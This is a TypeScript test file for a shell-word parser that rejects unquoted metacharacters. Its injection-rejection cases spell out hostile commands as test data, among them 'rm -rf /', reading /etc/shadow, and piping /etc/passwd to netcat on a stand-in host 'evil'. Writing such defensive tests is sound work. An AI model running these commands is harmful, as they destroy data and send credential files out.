import { describe, expect, it } from 'vitest';
import {
  SHELL_METACHARACTERS,
  ShellMetacharacterError,
  ShellSyntaxError,
  canonicalCommand,
  quoteWord,
  shellWords,
} from './shellwords.ts';

describe('shellWords', () => {
  it('splits on blanks and ignores leading and trailing white space', () => {
    expect(shellWords('  hey -z 1m  -q 10\t-c 2 http://podinfo-canary.test:9898/ \n')).toEqual([
      'hey',
      '-z',
      '1m',
      '-q',
      '10',
      '-c',
      '2',
      'http://podinfo-canary.test:9898/',
    ]);
  });

  it('keeps single-quoted text literal, metacharacters and backslashes included', () => {
    expect(shellWords(`curl -d '{"a": "$x; rm -rf / | cat"}' 'C:\\dir'`)).toEqual([
      'curl',
      '-d',
      '{"a": "$x; rm -rf / | cat"}',
      'C:\\dir',
    ]);
  });

  it('reads double quotes with the escapes sh honours there', () => {
    expect(shellWords('echo "a b" "say \\"hi\\"" "back\\\\slash" "keep\\n" "\\$HOME"')).toEqual([
      'echo',
      'a b',
      'say "hi"',
      'back\\slash',
      'keep\\n',
      '$HOME',
    ]);
  });

  it('joins adjacent quoted and unquoted parts into one word and keeps empty words', () => {
    expect(shellWords(`a'b c'"d e"f '' ""`)).toEqual(['ab cd ef', '', '']);
  });

  it('makes the next character literal after a backslash, and joins lines on backslash-newline', () => {
    expect(shellWords('echo a\\ b \\; c\\\nd')).toEqual(['echo', 'a b', ';', 'cd']);
  });

  it('keeps globs, tilde, braces, hash and assignments literal (no shell expands them)', () => {
    expect(shellWords('ls *.txt ~ {a,b} #x A=1 http://x/?q=1')).toEqual([
      'ls',
      '*.txt',
      '~',
      '{a,b}',
      '#x',
      'A=1',
      'http://x/?q=1',
    ]);
  });

  it.each([...SHELL_METACHARACTERS].map((c) => [c]))('refuses an unquoted %s', (c) => {
    const cmd = `echo a${c}b`;
    expect(() => shellWords(cmd)).toThrow(ShellMetacharacterError);
    try {
      shellWords(cmd);
    } catch (err) {
      expect(err).toBeInstanceOf(ShellMetacharacterError);
      expect((err as ShellMetacharacterError).char).toBe(c);
      expect((err as ShellMetacharacterError).index).toBe(6);
      expect((err as Error).message).toContain(`"${c}"`);
      expect((err as Error).message).toContain('without a shell');
    }
  });

  it.each([
    ['command separator', 'true; rm -rf /', ';'],
    ['pipe', 'cat /etc/passwd | nc evil 80', '|'],
    ['background and AND list', 'sleep 1 && curl x', '&'],
    ['command substitution', 'echo $(id)', '$'],
    ['variable', 'echo $HOME', '$'],
    ['backticks', 'echo `id`', '`'],
    ['redirection', 'echo x > /etc/hosts', '>'],
    ['input redirection', 'mail x < /etc/shadow', '<'],
    ['subshell', '(id)', '('],
    ['newline', 'echo a\nid', '\n'],
    ['$ inside double quotes', 'echo "$(id)"', '$'],
    ['backtick inside double quotes', 'echo "`id`"', '`'],
  ])('refuses a %s', (_what, cmd, char) => {
    expect(() => shellWords(cmd)).toThrow(expect.objectContaining({ name: 'ShellMetacharacterError', char }));
  });

  it.each([
    ['an unterminated single quote', "echo 'abc", /unterminated single quote/],
    ['an unterminated double quote', 'echo "abc', /unterminated double quote/],
    ['a trailing backslash', 'echo abc\\', /trailing backslash/],
    ['an empty command', '   ', /empty command/],
  ])('rejects %s as a syntax error', (_what, cmd, message) => {
    expect(() => shellWords(cmd)).toThrow(ShellSyntaxError);
    expect(() => shellWords(cmd)).toThrow(message);
  });
});

describe('canonicalCommand', () => {
  it('leaves plain words bare and single-quotes the others', () => {
    expect(quoteWord('http://podinfo.test:9898/?a=1')).toBe('http://podinfo.test:9898/?a=1');
    expect(quoteWord('a b')).toBe("'a b'");
    expect(quoteWord('')).toBe("''");
    expect(quoteWord("it's")).toBe(`'it'\\''s'`);
    expect(quoteWord('a&b')).toBe("'a&b'");
    expect(canonicalCommand(['hey', '-H', 'X-A: 1', 'http://x/'])).toBe("hey -H 'X-A: 1' http://x/");
  });

  it('round-trips through shellWords', () => {
    const samples = [
      ['echo', 'a b', '', "it's", 'x;y', '$HOME', 'back\\slash', 'quote"d', 'new\nline', '*', '~'],
      ['hey', '-z', '1m', '-H', 'Authorization: Bearer x', 'http://h/?a=1&b=2'],
    ];
    for (const argv of samples) expect(shellWords(canonicalCommand(argv))).toEqual(argv);
  });
});
